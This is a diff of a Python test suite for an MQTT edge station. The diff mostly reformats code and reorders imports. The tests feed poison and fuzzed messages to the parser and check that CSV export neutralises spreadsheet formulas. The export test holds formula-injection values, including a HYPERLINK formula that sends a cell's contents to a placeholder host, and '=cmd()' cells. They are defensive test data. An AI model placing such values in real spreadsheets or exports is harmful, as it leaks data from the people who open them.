@@ -12,26 +12,26 @@ import random
 import re
 import sqlite3
 import threading
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 import pytest
 from click.testing import CliRunner
 from rich.console import Console
 
-from support import paths
-from support.broker import Mosquitto, mosquitto_pub
-from support.processes import StationProcess
-from support.records import query
-from support.waiting import wait_for
-from edge.cli.main import main
 from edge.app.health import SOURCE_FIELDS, Health
-from edge.wire.mqtt import BrokerConfig
-from edge.wire.records import status_payload
+from edge.cli.main import main
 from edge.station import store as store_module
 from edge.station.messages import Record, RecordError, parse, topic_box, topic_parts
 from edge.station.store import Store, StoreError
 from edge.station.subscriber import StationOptions, Subscriber
 from edge.station.table import box_lines, render
+from edge.wire.mqtt import BrokerConfig
+from edge.wire.records import status_payload
+from support import paths
+from support.broker import Mosquitto, mosquitto_pub
+from support.processes import StationProcess
+from support.records import query
+from support.waiting import wait_for
 
 GOLDEN = json.loads((paths.GOLDEN / "event_v1.json").read_text())
 INVALID_BOX = "(invalid box id)"
@@ -43,8 +43,15 @@ def event(box: str = "box-a", **fields) -> bytes:
 
 
 def status(**fields) -> bytes:
-    return json.dumps({"schema": "edge.status/1", "box": "box-a", "state": "online",
-                       "time_utc": "2026-11-23T09:00:00.000+00:00", **fields}).encode()
+    return json.dumps(
+        {
+            "schema": "edge.status/1",
+            "box": "box-a",
+            "state": "online",
+            "time_utc": "2026-11-23T09:00:00.000+00:00",
+            **fields,
+        }
+    ).encode()
 
 
 def nested(levels: int) -> bytes:
@@ -53,23 +60,30 @@ def nested(levels: int) -> bytes:
 
 # name: (topic, payload, the box it counts for, what the reason says)
 POISON = {
-    "infinity": ("edge/evil/events", b'{"schema":"x","id":"a","kind":"start","end_s":5,"confidence":Infinity}',
-                 "evil", "Infinity"),
+    "infinity": (
+        "edge/evil/events",
+        b'{"schema":"x","id":"a","kind":"start","end_s":5,"confidence":Infinity}',
+        "evil",
+        "Infinity",
+    ),
     "version_object": ("edge/box-a/status", status(version={"major": 1}), "box-a", "version is not text"),
     "seq_beyond_64_bits": ("edge/box-a/events", event(seq=1180591620717411303424), "box-a", "beyond 64 bits"),
     "nested_100000_deep": ("edge/box-a/events", nested(100_000), "box-a", "larger than 65536"),
     "nested_30000_deep": ("edge/box-a/events", nested(30_000), "box-a", "nested 30001 deep"),
     "schema_evil": ("edge/box-a/events", event(schema="evil/9"), "box-a", "schema 'evil/9' is not one of"),
-    "common_name_list": ("edge/box-a/events", event(common_name=["Tawny", "Owl"]), "box-a",
-                         "common_name is not text"),
+    "common_name_list": ("edge/box-a/events", event(common_name=["Tawny", "Owl"]), "box-a", "common_name is not text"),
     "confidence_very": ("edge/box-a/events", event(confidence="very"), "box-a", "confidence is not a number"),
     "seq_zero": ("edge/box-a/events", event(seq=0), "box-a", "seq 0 is not within"),
     "seq_negative": ("edge/box-a/events", event(seq=-5), "box-a", "seq -5 is not within"),
     "common_name_10_mb": ("edge/box-a/events", event(common_name="O" * 10_000_000), "box-a", "larger than 65536"),
     "id_1_mb": ("edge/box-a/events", event(id="i" * 1_000_000), "box-a", "larger than 65536"),
     "box_dot_dot": ("edge/../events", event(box=".."), INVALID_BOX, "topic's box id '..' is not"),
-    "box_60000_characters": (f"edge/{'b' * 60_000}/events", event(box="b" * 60_000), INVALID_BOX,
-                             "box id of 60000 characters"),
+    "box_60000_characters": (
+        f"edge/{'b' * 60_000}/events",
+        event(box="b" * 60_000),
+        INVALID_BOX,
+        "box id of 60000 characters",
+    ),
     "unexpected_topic": ("edge/box-a/other", event(), "box-a", "is not edge/<box>/"),
     "topic_one_level_deeper": ("edge/box-a/events/x", event(), "box-a", "is not edge/<box>/"),
 }
@@ -92,8 +106,7 @@ def test_a_poison_message_is_set_aside_and_the_station_goes_on(broker, tmp_path,
         mosquitto_pub(broker, topic, payload, tmp_path)
         mosquitto_pub(broker, "edge/box-ok/events", event("box-ok"), tmp_path)
         station.wait_for(lambda: query(db, "SELECT 1 FROM records WHERE box = 'box-ok'"), what="the valid record")
-        (rejected,) = station.wait_for(lambda: query(db, "SELECT * FROM rejected"),
-                                       what="the poison message set aside")
+        (rejected,) = station.wait_for(lambda: query(db, "SELECT * FROM rejected"), what="the poison message set aside")
         assert (rejected["box"], rejected["size"]) == (box, len(payload))
         assert reason in rejected["reason"]
         assert len(rejected["payload"].encode()) <= 4096 and payload.decode().startswith(rejected["payload"])
@@ -133,9 +146,9 @@ def refused(payload: bytes, kind: str = "events", box: str = "box-a") -> str:
 
 def test_parse_refuses_what_json_and_sqlite_read_differently():
     text = event().decode()
-    assert "NaN" in refused(text.replace('0.9123', 'NaN').encode())
-    assert "-Infinity" in refused(text.replace('0.9123', '-Infinity').encode())
-    assert "beyond a float" in refused(text.replace('0.9123', '1e999').encode())
+    assert "NaN" in refused(text.replace("0.9123", "NaN").encode())
+    assert "-Infinity" in refused(text.replace("0.9123", "-Infinity").encode())
+    assert "beyond a float" in refused(text.replace("0.9123", "1e999").encode())
     assert "beyond 64 bits" in refused(event(extra=2**64))  # in a field no check looks at, too
     assert "beyond 64 bits" in refused(text.replace('"seq": 1', '"seq": ' + "9" * 5000).encode())  # past int()'s limit
     assert parsed(event(seq=2**63 - 1)).seq == 2**63 - 1
@@ -148,6 +161,7 @@ def test_parse_refuses_what_json_and_sqlite_read_differently():
 def test_parse_limits_size_and_depth_before_parsing():
     def deep(levels: int) -> bytes:  # an unknown field nested inside the record
         return event(extra=json.loads("[" * (levels - 1) + "]" * (levels - 1)) if levels > 1 else 0)
+
     assert parsed(deep(16)).payload["extra"]
     assert "nested 17 deep, more than 16" in refused(deep(17))
     assert parsed(event(common_name="[{" * 400)).payload["common_name"]  # brackets in strings are text
@@ -177,10 +191,10 @@ def test_parse_checks_every_known_field():
     for payload, reason in cases.items():
         assert reason in refused(payload)
     health = {"schema": "edge.health/1", "box": "box-a", "time_utc": "2026-11-23T09:00:00.000+00:00", "seq": 3}
-    assert "disk_free_percent 150 is not within" in refused(json.dumps({**health, "disk_free_percent": 150}).encode(),
-                                                           "health")
-    assert "outbox_pending -1 is not within" in refused(json.dumps({**health, "outbox_pending": -1}).encode(),
-                                                       "health")
+    assert "disk_free_percent 150 is not within" in refused(
+        json.dumps({**health, "disk_free_percent": 150}).encode(), "health"
+    )
+    assert "outbox_pending -1 is not within" in refused(json.dumps({**health, "outbox_pending": -1}).encode(), "health")
     assert "time_utc" in refused(json.dumps({**health, "time_utc": None}).encode(), "health")
     assert "state 'gone' is none of" in refused(status(state="gone"), "status")
     assert parsed(status(start_s=5), "status").key == "online 2026-11-23T09:00:00.000+00:00"  # a field unknown there
@@ -196,12 +210,20 @@ def test_parse_takes_what_boxes_publish_and_fields_it_does_not_know(tmp_path):
     for state in ("online", "offline"):
         assert parsed(status_payload("box-a", state).encode(), "status").seq is None
     assert parsed(status_payload("box-a", "stopped", outbox_pending=0, mqtt_sent=9).encode(), "status")
-    alert = {**json.loads(event()), "schema": "edge.alert/2", "kind": "alert", "alert_class": "Gun",
-             "threshold": 0.5, "held_back": 0, "detected_utc": "2026-11-23T09:00:01.000+00:00"}
+    alert = {
+        **json.loads(event()),
+        "schema": "edge.alert/2",
+        "kind": "alert",
+        "alert_class": "Gun",
+        "threshold": 0.5,
+        "held_back": 0,
+        "detected_utc": "2026-11-23T09:00:01.000+00:00",
+    }
     del alert["clip"]
     assert parsed(json.dumps(alert).encode(), "alerts").event_id == GOLDEN["id"]
-    assert "without alert_class" in refused(json.dumps({k: v for k, v in alert.items() if k != "alert_class"})
-                                            .encode(), "alerts")
+    assert "without alert_class" in refused(
+        json.dumps({k: v for k, v in alert.items() if k != "alert_class"}).encode(), "alerts"
+    )
     assert "kind 'start' is none of alert" in refused(json.dumps({**alert, "kind": "start"}).encode(), "alerts")
     assert parsed(event(schema="edge.alert/1"), "alerts")  # boxes before edge.alert/2
     assert "the events topic's" in refused(json.dumps(alert).encode(), "events")
@@ -210,9 +232,14 @@ def test_parse_takes_what_boxes_publish_and_fields_it_does_not_know(tmp_path):
 def test_topics_name_a_box_and_a_kind():
     assert topic_parts("edge/box-1/events", "edge") == ("box-1", "events")
     assert topic_parts("site/a/edge/box-1/health", "site/a/edge") == ("box-1", "health")
-    for topic, reason in (("edge/box-1", "is not edge/<box>/"), ("edge/box-1/other", "is not edge/<box>/"),
-                          ("edge/box-1/events/x", "is not edge/<box>/"), ("edge//events", "box id ''"),
-                          ("edge/-x/events", "box id '-x'"), ("edge/a+b/events", "box id 'a+b'")):
+    for topic, reason in (
+        ("edge/box-1", "is not edge/<box>/"),
+        ("edge/box-1/other", "is not edge/<box>/"),
+        ("edge/box-1/events/x", "is not edge/<box>/"),
+        ("edge//events", "box id ''"),
+        ("edge/-x/events", "box id '-x'"),
+        ("edge/a+b/events", "box id 'a+b'"),
+    ):
         with pytest.raises(RecordError, match=re.escape(reason)):
             topic_parts(topic, "edge")
     assert topic_box("edge/box-1/other/level", "edge") == "box-1"
@@ -288,8 +315,11 @@ class BuggyStore(Store):
 def test_a_bug_met_by_one_message_does_not_stop_the_station(broker, tmp_path):
     db = tmp_path / "station.sqlite"
     store = BuggyStore(Store.open(db).db)
-    subscriber = Subscriber(BrokerConfig(host="127.0.0.1", port=broker.port),
-                            StationOptions(client_id="station-test", first_retry_s=0.1, max_retry_s=0.5), store)
+    subscriber = Subscriber(
+        BrokerConfig(host="127.0.0.1", port=broker.port),
+        StationOptions(client_id="station-test", first_retry_s=0.1, max_retry_s=0.5),
+        store,
+    )
     stop = threading.Event()
     thread = threading.Thread(target=subscriber.run, args=(stop,))
     thread.start()
@@ -310,13 +340,19 @@ def test_a_bug_met_by_one_message_does_not_stop_the_station(broker, tmp_path):
 def test_export_neutralises_formulas(tmp_path):
     db = tmp_path / "station.sqlite"
     store = Store.open(db)
-    formulas = {"common_name": '=HYPERLINK("http://x.example/?"&A1,"Owl")', "scientific_name": "+1+2",
-                "id": "-2+3", "model": "@SUM(A1:A9)"}
+    formulas = {
+        "common_name": '=HYPERLINK("http://x.example/?"&A1,"Owl")',
+        "scientific_name": "+1+2",
+        "id": "-2+3",
+        "model": "@SUM(A1:A9)",
+    }
     store.add(parsed(event(**formulas)))
     # What a database written before the station checked records may hold: control characters, a box '=cmd()'.
     formulas.update(source="\tcmd", model_version="\r=1")
-    store.db.execute("UPDATE detections SET source = ?, model_version = ?, start_s = -2.5",  # a number stays one
-                     (formulas["source"], formulas["model_version"]))
+    store.db.execute(
+        "UPDATE detections SET source = ?, model_version = ?, start_s = -2.5",  # a number stays one
+        (formulas["source"], formulas["model_version"]),
+    )
     store.db.execute("INSERT INTO records VALUES ('=cmd()', 'health', 'k', 7, NULL, '{}', '2026-11-23')")
     store.close()
 
@@ -324,6 +360,7 @@ def test_export_neutralises_formulas(tmp_path):
         result = CliRunner().invoke(main, ["station", "export", "--db", str(db), *args], catch_exceptions=False)
         assert result.exit_code == 0, result.output
         return list(csv.DictReader(io.StringIO(result.stdout)))
+
     (row,) = export()
     assert {name: row[name] for name in formulas} == {name: "'" + value for name, value in formulas.items()}
     assert (row["box"], row["start_s"], row["end_s"], row["max_confidence"]) == ("box-a", "-2.5", "12.5", "0.9123")
@@ -338,7 +375,7 @@ def test_table_shows_rejected_messages_per_box(tmp_path):
     for _ in range(3):
         store.reject("box-a", "edge/box-a/events", "why", b"{}", "2026-11-23T09:00:00Z")
     store.reject(None, "edge/../events", "why", b"{}", "2026-11-23T09:00:00Z")
-    now = datetime.now(timezone.utc)
+    now = datetime.now(UTC)
     lines = box_lines(store.db, now)
     store.close()
     assert [(line.box, line.rejected) for line in lines] == [(INVALID_BOX, 1), ("box-a", 3)]
@@ -352,15 +389,61 @@ def test_no_payload_meets_anything_but_a_rejection_or_the_database(tmp_path):
     """Records a box publishes, with fields swapped for values of other types or bytes spliced in: each is
     either stored or refused with a RecordError, never another exception (seeded: the same cases each run)."""
     rng = random.Random(14)
-    alert = {**json.loads(event()), "schema": "edge.alert/2", "kind": "alert", "alert_class": "Gun",
-             "threshold": 0.5, "held_back": 0, "detected_utc": "2026-11-23T09:00:01.000+00:00"}
+    alert = {
+        **json.loads(event()),
+        "schema": "edge.alert/2",
+        "kind": "alert",
+        "alert_class": "Gun",
+        "threshold": 0.5,
+        "held_back": 0,
+        "detected_utc": "2026-11-23T09:00:01.000+00:00",
+    }
     del alert["clip"]
-    bases = [("events", json.loads(event())), ("alerts", alert), ("status", json.loads(status())),
-             ("health", {**Health("box-a", tmp_path).record(SOURCE_FIELDS), "seq": 2})]
-    values = [None, True, 0, -1, 1.5, 2**63, 1e308, "", "\u0000", "\ud800", "9999-99-99", [], {}, [1], {"a": 1},
-              "start", "alert", "online", "edge.event/1"]
-    splices = [b"NaN", b"-Infinity", b"1e999", b"[", b"{", b"]", b"}", b'"', b"\\", b"\\ud800", b"\xff",
-               b"99999999999999999999999", b",", b"null", b'"id": "x",', b"\x00"]
+    bases = [
+        ("events", json.loads(event())),
+        ("alerts", alert),
+        ("status", json.loads(status())),
+        ("health", {**Health("box-a", tmp_path).record(SOURCE_FIELDS), "seq": 2}),
+    ]
+    values = [
+        None,
+        True,
+        0,
+        -1,
+        1.5,
+        2**63,
+        1e308,
+        "",
+        "\u0000",
+        "\ud800",
+        "9999-99-99",
+        [],
+        {},
+        [1],
+        {"a": 1},
+        "start",
+        "alert",
+        "online",
+        "edge.event/1",
+    ]
+    splices = [
+        b"NaN",
+        b"-Infinity",
+        b"1e999",
+        b"[",
+        b"{",
+        b"]",
+        b"}",
+        b'"',
+        b"\\",
+        b"\\ud800",
+        b"\xff",
+        b"99999999999999999999999",
+        b",",
+        b"null",
+        b'"id": "x",',
+        b"\x00",
+    ]
     store = Store.open(tmp_path / "station.sqlite")
     stored = 0
     for _ in range(4000):
@@ -369,7 +452,7 @@ def test_no_payload_meets_anything_but_a_rejection_or_the_database(tmp_path):
         payload = bytearray(json.dumps(data).encode())
         if rng.random() < 0.5:
             at = rng.randrange(len(payload))
-            payload[at:at + rng.randint(0, 3)] = rng.choice(splices)
+            payload[at : at + rng.randint(0, 3)] = rng.choice(splices)
         try:
             store.add(parsed(bytes(payload), kind))
             stored += 1
